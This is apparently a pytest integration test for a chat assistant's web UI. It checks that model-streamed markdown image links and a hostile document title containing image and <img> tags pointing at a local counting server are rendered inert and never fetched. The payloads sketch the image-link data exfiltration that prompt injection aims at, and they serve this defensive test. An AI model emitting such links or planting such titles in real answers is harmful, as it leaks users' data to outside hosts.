"""OWASP LLM05 while streaming: a model-written image link is never fetched during the stream,
and a hostile document title renders as text in every answer that cites it. A real browser,
a scripted model that holds the stream open, and a server that counts what is fetched."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk
from pydantic import PrivateAttr

from coach.core import build_core
from coach.providers.fakes import ScriptedChatModel
from coach.settings import Settings
from coach.store import KnowledgeStore
from knowledge.ingest import Root
from tests.conftest import write_tree
from tests.integration.conftest import free_port
from tests.reliability.security.services import chromium
from wiring.app import create_app
from wiring.services import build_services

pytestmark = pytest.mark.integration


class Leak:
    def __init__(self) -> None:
        self.hits: list[str] = []
        leak = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                leak.hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class HeldStream(ScriptedChatModel):
    """Streams an image link, then waits for the test before it finishes."""

    _pieces: list[str] = PrivateAttr(default_factory=list)
    _gate: threading.Event = PrivateAttr(default_factory=threading.Event)

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        for i, piece in enumerate(self._pieces):
            if i == len(self._pieces) - 1:
                self._gate.wait(60)
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))


@pytest.fixture
def leak() -> Iterator[Leak]:
    server = Leak()
    yield server
    server.server.shutdown()


def test_streamed_images_and_hostile_titles_are_inert_in_the_browser(
    fake_settings: Settings, store: KnowledgeStore, tmp_path: Path, leak: Leak
) -> None:
    executable = chromium()
    title = f"Budget ![t]({leak.url}/title.png?from=title) <img src={leak.url}/tag.png>"
    folder = write_tree(
        tmp_path / "k",
        {
            "playbooks/budget.md": f"""\
                ---
                title: "{title}"
                ---
                # Learning budget

                Every employee has EUR 1,200 per calendar year for courses and books.
                """
        },
    )
    model = HeldStream()
    model._pieces = [
        "Here is the budget ",
        f"![x]({leak.url}/stream.png?secret=budget) ",
        "STREAMING-MARK ",
        "and the rest.",
    ]
    settings = fake_settings.model_copy(update={"llm_first_token_seconds": 60.0})
    core = build_core(settings, store=store, chat_model=model)
    services = build_services(settings, core=core)
    services.library.sync([Root(folder)])
    port = free_port()
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, services=services), port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    from playwright.sync_api import sync_playwright

    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=executable, args=["--headless", "--no-sandbox"]
            )
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{port}/ui/")
            page.locator("#coach-input textarea").fill("How much is the learning budget per year?")
            page.locator("#coach-send").click()
            page.wait_for_selector("#coach-chat >> text=STREAMING-MARK", timeout=60_000)
            streamed_images = page.locator(f'#coach-chat img[src^="{leak.url}"]').count()
            model._gate.set()
            page.wait_for_selector("text=Sources (", timeout=60_000)
            page.get_by_text("Sources (").first.click()
            page.wait_for_selector("#coach-chat >> text=Learning budget", timeout=30_000)
            shown = page.locator("#coach-chat").inner_text()
            final_images = page.locator(f'#coach-chat img[src^="{leak.url}"]').count()
            browser.close()
    finally:
        server.should_exit = True
        thread.join(10)
        services.engine.dispose()
    assert streamed_images == 0
    assert final_images == 0
    assert leak.hits == []
    assert "![t](" in shown  # the title is shown as the text it is
